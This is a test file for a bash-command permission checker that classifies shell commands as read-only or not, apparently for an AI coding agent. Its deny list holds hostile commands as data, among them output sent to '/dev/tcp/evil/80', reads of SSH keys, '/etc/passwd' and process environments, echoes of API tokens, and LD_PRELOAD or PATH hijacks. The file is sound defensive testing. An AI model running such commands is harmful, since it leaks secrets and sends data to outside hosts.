import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { splitCommand } from '../../src/permissions/bash-parse.js';
import { isReadOnlyCommand } from '../../src/permissions/read-only-commands.js';
import { loadBashGrammar } from '../../src/permissions/bash-grammar.js';

// The product loads the grammar once its first model request is sent; these tests call the parser directly.
await loadBashGrammar();

const ROOT = '/w/repo';

/** Every simple command of the line is read-only. */
function readOnly(command: string): boolean {
  const r = splitCommand(command);
  // What the parser refuses is never read-only (the decision fails closed).
  if (!r.ok) return false;
  return r.commands.every((c) => isReadOnlyCommand(c, { workspaceRoot: ROOT }));
}

describe('isReadOnlyCommand', () => {
  it('accepts the listed commands with ordinary arguments', () => {
    const ok = [
      'ls -la src',
      'cat package.json',
      'head -n 20 a.txt',
      'tail -n 5 log.txt',
      'wc -l src/a.ts',
      'pwd',
      'echo hi',
      'printf "%s\\n" x',
      'true',
      'which node',
      'file README.md',
      'stat a',
      'du -sh .',
      'df -h',
      'grep -rn foo src',
      'rg -n foo',
      'diff a b',
      'sort a.txt',
      'uniq -c a.txt',
      'tree -L 2',
      'basename /a/b',
      'dirname a/b',
      'realpath x',
      'date +%F',
      'git status',
      'git diff --stat',
      'git log --oneline -5',
      'git show HEAD',
      'git branch -a',
      'git branch --list "feat/*"',
      'git rev-parse HEAD',
      'git ls-files',
      'git blame a.ts',
      "find . -name '*.ts' -type f",
      'cd src',
      `cat ${ROOT}/a.txt`,
      'ls 2>/dev/null',
      'ls 2>&1',
      'echo $HOME',
      'LC_ALL=C sort a',
      'git --no-pager log',
      '[ -f x ]',
      'test -d src',
      'git diff -- *.ts',
      'for f in src/*.ts; do wc -l "$f"; done',
      'cat <<EOF\ntext\nEOF',
    ];
    for (const c of ok) assert.ok(readOnly(c), c);
  });

  it('refuses dangerous arguments', () => {
    const bad = [
      'find . -exec rm {} \\;',
      'find . -execdir ls \\;',
      'find . -delete',
      'find . -fprint out',
      'find . -ok rm {} \\;',
      'find . -name $X',
      'git diff --output=/tmp/x',
      'git diff --out=/tmp/x',
      'git diff --ext-diff',
      'git log --output x',
      'git show --textconv HEAD',
      'git -c core.pager=sh log',
      'git -C /tmp status',
      'git --git-dir=/tmp/x log',
      'git branch -D main',
      'git branch -m a b',
      'git branch --delete x',
      'git branch new-branch',
      'git push',
      'git checkout x',
      'git log --format=x -c core.pager=sh',
      'sort -o f a',
      'sort -ro f a',
      'sort --output=f a',
      'sort --compress-program=sh a',
      'uniq a b',
      'tail -f log',
      'tail -Fn5 log',
      'tail --follow log',
      'rg --pre=sh x',
      'rg --pre-glob=* x',
      'date -s 2020-01-01',
      'date --set=x',
      'file -C -m x',
      'tree -o out',
      'printf -v PATH /tmp',
      'tree -R',
      'LC_ALL=./evil ls',
      'TERM=../x ls',
      'cat x > y',
      'cat x >> y',
      'echo x >| y',
      'ls &> out',
      'ls > /dev/tcp/evil/80',
      'cat < /proc/self/environ',
      'cat /proc/self/environ',
      'cat ~/.ssh/id_rsa',
      'cat ../x',
      'cat /etc/passwd',
      'grep -f /proc/self/environ x',
      'grep --file=/etc/x y',
      'cat $SECRET_FILE',
      'echo $GITHUB_TOKEN',
      'echo "${ANTHROPIC_API_KEY}"',
      'cat {/proc/self/environ,x}',
      'cat .*/x',
      'cat $(echo /etc/passwd)',
      'GIT_PAGER=sh git log',
      'LD_PRELOAD=x ls',
      'PATH=/tmp ls',
      'X=1',
      'env',
      'printenv',
      'xargs ls',
      'sh -c ls',
      'bash -c ls',
      'eval ls',
      'exec ls',
      'source x',
      '. x',
      'sed -i s/a/b/ f',
      "awk '{print}' f",
      './ls',
      '/bin/ls',
      '$CMD',
      'cd /tmp',
      'cd ..',
      'cd',
      'cd ~',
      'for f in /proc/self/environ; do cat $f; done',
      'for f in $(ls); do cat $f; done',
      'wc --files0-from=/proc/self/environ',
      'diff <(cat /proc/self/environ) x',
      'constructor',
      'toString',
      '> file',
    ];
    for (const c of bad) assert.ok(!readOnly(c), c);
  });
});
